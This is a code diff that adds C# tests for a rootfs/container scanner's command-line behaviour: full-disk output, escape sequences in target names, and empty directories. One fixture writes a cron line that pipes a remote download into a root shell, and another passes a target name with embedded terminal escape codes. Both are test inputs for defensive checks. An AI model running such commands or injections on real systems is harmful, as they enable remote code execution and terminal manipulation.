@@ -157,6 +157,32 @@ public sealed class CommandLineTests : IDisposable
     }
 
     [Fact]
+    public async Task A_full_disk_does_not_unblock()
+    {
+        Directory.CreateDirectory(In("rc/etc/cron.d"));
+        var script = In("rc/etc/cron.d/x", "* * * * * root curl -s http://192.0.2.9/x | sh\n");
+        In("rc/etc/os-release", "ID=debian\n");
+        var run = await Executable.RunAsync("", ["scan", "rootfs:" + In("rc"), "--format", "json", "--no-cache"], stdout: "/dev/full");
+        Assert.Equal((1, "wellguard: cannot write the results: no space left on the device\n"), (run.Code, run.Errors));
+        Assert.True(File.Exists(script));
+    }
+
+    [Fact]
+    public async Task A_targets_name_brings_no_escape_to_the_terminal()
+    {
+        var run = await Executable.RunAsync("scan", "oci:/nothere\u001b]0;x\u0007\u001b[31m", "--no-cache");
+        Assert.Equal(2, run.Code);
+        Assert.DoesNotContain('\u001b', run.Errors);
+    }
+
+    [Fact]
+    public async Task An_empty_directory_is_not_clean()
+    {
+        var run = await Executable.RunAsync("scan", Directory.CreateDirectory(In("nothing")).FullName, "--no-cache", "--format", "json");
+        Assert.Equal(3, run.Code);
+    }
+
+    [Fact]
     public async Task A_reader_that_goes_away_gets_no_stack_trace()
     {
         var run = await Executable.RunAsync("", ["scan", Rootfs("r"), "--format", "json", "--no-cache"], stdout: ">(exec true)");
